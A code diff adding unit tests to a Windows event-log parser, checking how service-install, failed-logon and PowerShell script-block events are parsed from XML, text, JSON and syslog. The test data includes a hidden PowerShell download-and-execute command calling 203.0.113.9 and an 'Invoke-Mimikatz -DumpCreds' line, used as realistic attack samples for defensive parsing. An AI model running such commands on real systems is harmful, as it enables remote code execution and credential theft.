@@ -269,4 +269,47 @@ class WindowsLinesTest {
     parsed(LogSource.POWERSHELL, line).has("EventID", "400")
         .has("HostApplication", "powershell.exe -ExecutionPolicy Bypass -File C:\\ops\\inventory.ps1");
   }
+
+  @Test
+  void serviceInstalledOnTheSystemChannel() {
+    String line = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+        + "<Provider Name='Service Control Manager' EventSourceName='Service Control Manager'/>"
+        + "<EventID Qualifiers='16384'>7045</EventID><Channel>System</Channel><Computer>FS02.corp.example</Computer>"
+        + "</System><EventData><Data Name='ServiceName'>WinUpdSvc</Data><Data Name='ImagePath'>%COMSPEC% /c "
+        + "powershell -nop -w hidden -c IEX(iwr http://203.0.113.9/s)</Data><Data Name='ServiceType'>user mode "
+        + "service</Data><Data Name='StartType'>auto start</Data><Data Name='AccountName'>LocalSystem</Data>"
+        + "</EventData></Event>";
+    parsed(LogSource.AUTO, line).is(LogSource.WINDOWS_SYSTEM, LogFormat.XML).has("EventID", "7045")
+        .has("Provider", "Service Control Manager").has("ServiceName", "WinUpdSvc")
+        .has("ImagePath", "%COMSPEC% /c powershell -nop -w hidden -c IEX(iwr http://203.0.113.9/s)")
+        .has("ServiceType", "user mode service").has("StartType", "auto start").has("AccountName", "LocalSystem");
+  }
+
+  @Test
+  void aSyslogLineWithLabelsIsNotTakenForWindows() {
+    parsed(LogSource.AUTO, "Mar  3 10:00:00 nas-1 smartd[77]: 1234 Device: /dev/sda Status: ok Port: 3")
+        .is(LogSource.LINUX_SYSLOG, LogFormat.SYSLOG).lacks("EventID");
+  }
+
+  @Test
+  void anXmlEventForwardedOverSyslog() {
+    parsed(LogSource.AUTO, "Mar  2 08:14:05 fs02 Microsoft-Windows-Security-Auditing: " + security("4625",
+        "<Data Name='TargetUserName'>svc_backup</Data><Data Name='IpAddress'>198.51.100.23</Data>"))
+        .is(LogSource.WINDOWS_SECURITY, LogFormat.XML).has("EventID", "4625").has("TargetUserName", "svc_backup")
+        .has("host", "fs02");
+  }
+
+  @Test
+  void serviceInstalledAsTextAndScriptBlockAsJson() {
+    parsed(LogSource.AUTO, "A service was installed in the system. Service Name: WinUpdSvc Service File Name: "
+        + "C:\\Users\\Public\\svc.exe Service Type: user mode service Service Start Type: auto start "
+        + "Service Account: LocalSystem")
+        .is(LogSource.WINDOWS_SYSTEM, LogFormat.TEXT).has("EventID", "7045").has("ServiceName", "WinUpdSvc")
+        .has("ImagePath", "C:\\Users\\Public\\svc.exe").has("StartType", "auto start")
+        .has("AccountName", "LocalSystem");
+    parsed(LogSource.AUTO, "{\"winlog\":{\"channel\":\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":4104,"
+        + "\"event_data\":{\"ScriptBlockText\":\"Invoke-Mimikatz -DumpCreds\"}}}")
+        .is(LogSource.POWERSHELL, LogFormat.JSON).has("EventID", "4104")
+        .has("ScriptBlockText", "Invoke-Mimikatz -DumpCreds");
+  }
 }
